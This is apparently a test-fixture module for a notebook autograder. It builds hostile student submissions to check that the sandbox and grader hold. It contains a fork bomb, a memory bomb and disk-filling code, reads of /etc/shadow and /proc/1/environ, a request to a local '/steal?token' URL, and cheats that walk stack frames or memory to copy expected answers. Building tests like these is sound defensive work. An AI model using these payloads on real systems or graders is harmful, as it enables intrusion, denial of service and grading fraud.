"""A hostile week-1 cohort: everything students hand in that could break a grader.

Each entry is (submission, expectation): the submission is a notebook or raw
bytes; the expectation says how it must come out of grading.
"""
import json
from dataclasses import dataclass

import nbformat

from course.instructor.cohort import build_submission


@dataclass
class Expect:
    status: str = "graded"            # or "failed"
    full_marks: bool = False          # every test passes
    zero: tuple = ()                  # exercises (or "*" for all) that must score 0
    notes: tuple = ()                 # words that must appear in the outcome's notes
    full: tuple = ()                  # exercises that must keep full marks
    timed: bool = False               # cut by a wall-clock limit: only `full` and `zero` are fixed


def _cell(notebook, grade_id):
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _prepend(notebook, grade_id, code):
    cell = _cell(notebook, grade_id)
    cell.source = code + "\n" + cell.source
    return notebook


def hostile_cohort(course, week="week1", port=0, token="t", notebook_timeout=40, cell_timeout=15):
    """The cohort, for a course graded with the given time limits; ``port`` is a server on the
    host's 127.0.0.1 that no submission may reach, ``token`` marks the files they try to write."""
    reference = lambda: build_submission(course, week)           # noqa: E731
    blank = lambda: build_submission(course, week, filled=False)  # noqa: E731
    cohort = {}

    cohort["correct"] = (reference(), Expect(full_marks=True))
    cohort["blank"] = (blank(), Expect(zero=("*",)))

    # endless loops: one that an interrupt stops, one that swallows the interrupt (it waits instead
    # of spinning: the grader sees the same kernel that never answers, without a core burnt for it)
    cohort["loop-forever"] = (_prepend(reference(), "sigmoid", "while True:\n    pass"),
                              Expect(zero=("sigmoid",), full=("propagate", "optimize", "model"),
                                     notes=("time limit",)))
    cohort["loop-ignores-interrupt"] = (
        _prepend(reference(), "propagate",
                 "import time\nwhile True:\n    try:\n        while True:\n            time.sleep(0.05)\n"
                 "    except BaseException:\n        pass"),
        Expect(zero=("propagate", "optimize", "predict", "model"), full=("sigmoid", "initialize_with_zeros"),
               notes=("time limit", "not run")))

    # the kernel ends: os._exit, and a SIGKILL of its own process
    cohort["os-exit"] = (_prepend(reference(), "propagate", "import os\nos._exit(1)"),
                         Expect(zero=("propagate", "optimize", "model"), full=("sigmoid", "single_neuron_step"),
                                notes=("kernel died",)))
    cohort["kernel-killed"] = (
        _prepend(reference(), "optimize", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        Expect(zero=("optimize", "predict", "model"), full=("sigmoid", "propagate"), notes=("kernel died",)))

    # memory: a list that grows until the kernel's memory limit stops it
    cohort["memory-bomb"] = (
        _prepend(reference(), "predict", "hoard = []\nwhile True:\n    hoard.append(np.ones(10_000_000))"),
        Expect(zero=("predict",), full=("sigmoid", "propagate", "optimize")))

    cohort["syntax-error"] = (_prepend(reference(), "optimize", "def broken(:\n    pass"),
                              Expect(zero=("optimize",), full=("propagate", "predict", "model")))

    # warnings in a student's cell are harmless: printed, never a lost point
    cohort["warns-but-correct"] = (
        _prepend(reference(), "predict",
                 "import warnings\nwarnings.warn('just a note')\nprint(np.exp(np.array([1000.0])))"),
        Expect(full_marks=True))

    # tests removed or defused, with wrong code behind them
    deleted = blank()
    deleted.cells = [c for c in deleted.cells
                     if c.metadata.get("nbgrader", {}).get("grade_id") not in ("test_sigmoid", "test_sigmoid_hidden")]
    cohort["deleted-tests"] = (deleted, Expect(zero=("*",)))
    defused = blank()
    for grade_id in ("test_sigmoid", "test_sigmoid_hidden", "test_propagate"):
        _cell(defused, grade_id).source = "pass"
    cohort["tampered-tests"] = (defused, Expect(zero=("*",)))
    metadata = blank()
    _cell(metadata, "test_sigmoid").metadata["nbgrader"]["points"] = 100.0
    _cell(metadata, "test_propagate").metadata["nbgrader"]["grade"] = False
    _cell(metadata, "test_optimize").metadata["nbgrader"]["grade_id"] = "extra_credit"
    cohort["tampered-metadata"] = (metadata, Expect(zero=("*",)))

    # patching the checks so that every test passes
    monkeypatched = blank()
    _cell(monkeypatched, "sigmoid").source = (
        "import numpy as np\nimport course.checks\n"
        "np.allclose = lambda *args, **kwargs: True\n"
        "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "for name in dir(course.checks):\n"
        "    if name.startswith('check') or name == 'call':\n"
        "        try:\n"
        "            setattr(course.checks, name, lambda *args, **kwargs: None)\n"
        "        except AttributeError:\n"
        "            pass\n"
        "def sigmoid(z):\n    return z")
    cohort["monkeypatch"] = (monkeypatched, Expect(zero=("*",), notes=("for review",)))

    # files that are not notebooks
    cohort["broken-json"] = (b'{"cells": [', Expect(status="failed", zero=("*",), notes=("not a readable notebook",)))
    cohort["empty-file"] = (b"", Expect(status="failed", zero=("*",), notes=("empty",)))

    # harmless but unusual: a correct notebook under another name, and a huge output
    cohort["wrong-name"] = (reference(), Expect(full_marks=True, notes=("graded",)))
    huge = _prepend(reference(), "sigmoid", "print('spam ' * 4_000_000)")
    cohort["huge-output"] = (huge, Expect(full_marks=True))
    sloppy = reference()
    sloppy.cells[3]["id"] = sloppy.cells[2]["id"]            # duplicate cell ids, as a bad merge leaves
    sloppy.metadata["kernelspec"] = {"name": "python3.12", "display_name": "Python 3.12", "language": "python"}
    cohort["sloppy-format"] = (json.dumps(sloppy).encode(), Expect(full_marks=True, notes=("repaired",)))
    # the sandbox: reading the course, the network, writing outside, processes, disk, time
    cohort["snoop"] = (_prepend(reference(), "sigmoid", snoop_code(course.root, port, token, week)),
                       Expect(full_marks=True))
    cohort["process-flood"] = (_prepend(reference(), "sigmoid", FLOOD_CODE), Expect(full_marks=True))
    cohort["disk-fill"] = (_prepend(reference(), "sigmoid", DISK_FILL_CODE), Expect())
    cohort["sleeps-past-the-deadline"] = (
        sleeper(reference(), cell_timeout - 3),
        Expect(full=("sigmoid", "single_neuron_step"), zero=("optimize", "predict", "model"),
               notes=("total time limit",), timed=True))
    # test cells moved so that optimize is tested before propagate; optimize keeps the reference
    # propagate it is given, for propagate to use later
    stash = reference()
    _cell(stash, "optimize").source = ("import numpy\n" + _cell(stash, "optimize").source.replace(
        "    costs = []", "    numpy.stashed_propagate = propagate\n    costs = []", 1))
    _cell(stash, "propagate").source = ("def propagate(w, b, X, Y):\n    import numpy\n"
                                        "    return numpy.stashed_propagate(w, b, X, Y)")
    moved = [c for c in stash.cells if c.metadata.get("nbgrader", {}).get("grade_id") in
             ("test_propagate", "test_propagate_hidden")]
    stash.cells = [c for c in stash.cells if c not in moved]
    after = stash.cells.index(_cell(stash, "test_optimize_hidden"))
    stash.cells[after + 1:after + 1] = moved
    cohort["stash-a-reference"] = (stash, Expect(zero=("propagate", "optimize"),
                                                 full=("sigmoid", "initialize_with_zeros", "predict")))
    return cohort


def write_cohort(course, week, cohort):
    """Hand the cohort in; 'wrong-name' is saved under a different file name."""
    name = course.notebook_name(week)
    for student, (content, _) in cohort.items():
        folder = course.submitted / student / week
        folder.mkdir(parents=True, exist_ok=True)
        target = folder / (f"{name} (1).ipynb" if student == "wrong-name" else f"{name}.ipynb")
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            nbformat.write(content, target)


# ---------------------------------------------------------------- cheats of every week
# Each replaces one graded function by code that tries to get the answer from the grader
# instead of computing it. The tests run outside the sandboxed kernel, so every one must
# score 0 on every test of its exercise, and keep the points of the other exercises.

# one exercise a week: a backward pass, a training loop, a backward pass, the mini-batch training
CHEAT_TARGETS = {"week1": "propagate", "week2": "nn_model", "week3": "L_model_backward", "week4": "train"}

_SEARCH = '''
    def _found(scope):
        for _key, _value in list(scope.items()):
            if "expected" in str(_key).lower() or str(_key).startswith(("_e", "_ref")):
                return _value
            if callable(_value) and getattr(_value, "__name__", "") == "{name}" and _value is not {name}:
                return _value(*args, **kwargs)
        return None
'''


def cheat_variants(week):
    """Variant-like (name, exercise, description, code) cheats against the week's functions."""
    from course.instructor.cohort import Variant
    cheats = []
    for name in (CHEAT_TARGETS[week],):
        cheats += [
            Variant(f"cheat-{name}-asks-the-grader", name, "hands the call to the grader's reference functions",
                    replace={name: f'''def {name}(*args, **kwargs):
    from course.instructor.testing import reference
    return getattr(reference("{week}"), "{name}")(*args, **kwargs)'''}),
            Variant(f"cheat-{name}-old-grading-module", name, "hands the call to course.grading.reference",
                    replace={name: f'''def {name}(*args, **kwargs):
    from course.grading import reference
    return getattr(reference("{week}"), "{name}")(*args, **kwargs)'''}),
            Variant(f"cheat-{name}-walks-frames", name, "returns the expected value found in the caller's frames",
                    replace={name: f'''import sys

def {name}(*args, **kwargs):{_SEARCH.format(name=name)}
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            found = _found(scope)
            if found is not None:
                return found
        frame = frame.f_back
    raise RuntimeError("no expected value in reach")'''}),
            Variant(f"cheat-{name}-walks-a-traceback", name, "raises, catches and walks the traceback's frames",
                    replace={name: f'''def {name}(*args, **kwargs):{_SEARCH.format(name=name)}
    try:
        raise ZeroDivisionError()
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        found = _found(frame.f_locals) or _found(frame.f_globals)
        if found is not None:
            return found
        frame = frame.f_back
    raise RuntimeError("no expected value in reach")'''}),
            Variant(f"cheat-{name}-searches-memory", name, "looks through every object in memory for a reference",
                    replace={name: f'''import gc, types

def {name}(*args, **kwargs):
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == "{name}" and obj.__code__ is not {name}.__code__:
            return obj(*args, **kwargs)
        if isinstance(obj, dict) and any("expected" in str(key) for key in list(obj)[:50]):
            return next(value for key, value in obj.items() if "expected" in str(key))
    raise RuntimeError("no reference in memory")'''}),
        ]
    return cheats


def snoop_code(course_root, port, token, week):
    """Code put at the top of a correct submission: read, fetch and write everything it can.
    Every attempt prints what it got, so anything that worked would show in the outputs."""
    targets = [f"{course_root}/source/{week}", f"{course_root}/gradebook.db", f"{course_root}/nbgrader_config.py",
               f"{course_root}/release/{week}", f"{course_root}/submitted", f"{course_root}/autograded",
               f"{course_root}/feedback", "/root", "/etc/shadow", "/proc/1/environ"]
    return f'''import glob, os, socket, urllib.request
for _path in {targets!r}:
    try:
        if os.path.isdir(_path):
            _seen = sorted(glob.glob(_path + "/**", recursive=True))[:20]
            print("LISTED", _path, _seen)
            for _file in _seen:
                if os.path.isfile(_file):
                    print("READ", _file, open(_file, "rb").read(300))
        else:
            print("READ", _path, open(_path, "rb").read(300))
    except Exception as _error:
        print("blocked:", _path, type(_error).__name__)
for _url in ["http://127.0.0.1:{port}/steal?token={token}", "http://localhost:{port}/steal?token={token}"]:
    try:
        print("FETCHED", urllib.request.urlopen(_url, timeout=2).read(100))
    except Exception as _error:
        print("network blocked:", type(_error).__name__)
for _target in ["/tmp/hostile-{token}", os.path.expanduser("~/hostile-{token}"), "/root/hostile-{token}",
                "{course_root}/hostile-{token}", "{course_root}/source/{week}/hostile-{token}"]:
    try:
        with open(_target, "w") as _handle:
            _handle.write("written by a submission")
        print("wrote (inside the sandbox only):", _target)
    except Exception as _error:
        print("write blocked:", _target, type(_error).__name__)
'''


FLOOD_CODE = '''import os, time
_children = 0
for _i in range(5000):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        time.sleep(120)
        os._exit(0)
    _children += 1
print("processes started before the limit:", _children)
'''

DISK_FILL_CODE = '''_chunk = b"x" * (1 << 20)
for _folder in (".", "/tmp"):
    _written = 0
    try:
        with open(f"{_folder}/filler.bin", "wb") as _handle:
            for _i in range(100_000):
                _handle.write(_chunk)
                _written += 1
    except OSError as _error:
        print(f"{_folder}: stopped after {_written} MiB:", type(_error).__name__)
'''


def sleeper(notebook, seconds):
    """Every solution cell sleeps just under the per-cell limit, so only the notebook's total limit stops it."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = f"import time\ntime.sleep({seconds})\n" + cell.source
    return notebook
